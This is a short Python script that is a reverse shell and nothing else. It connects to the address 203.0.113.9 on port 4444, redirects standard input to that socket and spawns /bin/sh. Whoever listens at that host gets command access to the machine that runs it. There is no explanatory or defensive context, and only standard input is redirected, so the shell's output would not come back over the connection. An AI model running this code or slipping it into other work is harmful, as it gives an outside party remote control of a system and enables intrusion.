import os, pty, socket
s = socket.socket()
s.connect(("203.0.113.9", 4444))
os.dup2(s.fileno(), 0)
pty.spawn("/bin/sh")
